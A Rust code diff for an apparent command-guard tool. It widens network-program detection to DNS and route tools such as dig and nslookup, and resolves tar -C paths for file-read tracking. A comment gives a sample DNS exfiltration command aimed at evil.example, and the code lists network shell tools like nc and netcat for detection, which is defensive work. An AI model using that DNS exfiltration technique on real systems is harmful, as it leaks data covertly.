@@ -1197,9 +1197,9 @@ pub(crate) fn network_kind(program: &str) -> Option<NetworkKind> {
     Some(match program {
         "curl" | "wget" | "wget2" | "http" | "https" | "xh" | "xhs" | "fetch" | "aria2c" | "lwp-request"
         | "GET" | "POST" | "HEAD" => NetworkKind::HttpClient,
-        "nc" | "ncat" | "netcat" | "telnet" | "ping" | "ping6" | "mosh" | "ftp" | "sftp" => {
-            NetworkKind::HostFirst
-        }
+        // DNS lookups carry data out in the name they ask for (`dig $(… | base64).evil.example`).
+        "nc" | "ncat" | "netcat" | "telnet" | "ping" | "ping6" | "mosh" | "ftp" | "sftp" | "dig"
+        | "nslookup" | "host" | "drill" | "whois" | "traceroute" | "tracepath" => NetworkKind::HostFirst,
         "scp" | "rsync" => NetworkKind::RemoteCopy,
         "git" | "pip" | "pip3" | "uv" | "uvx" | "pipx" | "npm" | "npx" | "pnpm" | "yarn" | "gem" | "go"
         | "cargo" | "brew" | "docker" | "podman" | "helm" | "kubectl" | "open" | "xdg-open" | "gh"
@@ -1868,8 +1868,35 @@ fn tar(args: &[String], sink: &mut dyn FnMut(&str, Access)) {
         }
     }
     if creates {
-        p.operands.iter().for_each(|o| sink(o, Access::Read));
+        // `tar -C DIR -c NAMES`: the names are inside DIR.
+        let dir = p.values(&["-C", "--directory"]).last().map(str::to_owned);
+        for o in &p.operands {
+            match &dir {
+                Some(d) if !o.starts_with('/') && !o.starts_with('~') => {
+                    sink(&format!("{}/{o}", d.trim_end_matches('/')), Access::Read)
+                }
+                _ => sink(o, Access::Read),
+            }
+        }
     }
+}
+
+/// Whether `program` has an entry in the file-argument table (or its own parser there).
+pub(crate) fn knows_file_arguments(program: &str) -> bool {
+    matches!(
+        program,
+        "tar"
+            | "gtar"
+            | "bsdtar"
+            | "dd"
+            | "openssl"
+            | "gpg"
+            | "gpg2"
+            | "age"
+            | "ssh-keygen"
+            | "security"
+            | "patch"
+    ) || FILE_ARGS.iter().any(|f| f.programs.contains(&program))
 }
 
 fn crypto_tool(program: &str, args: &[String], sink: &mut dyn FnMut(&str, Access)) {
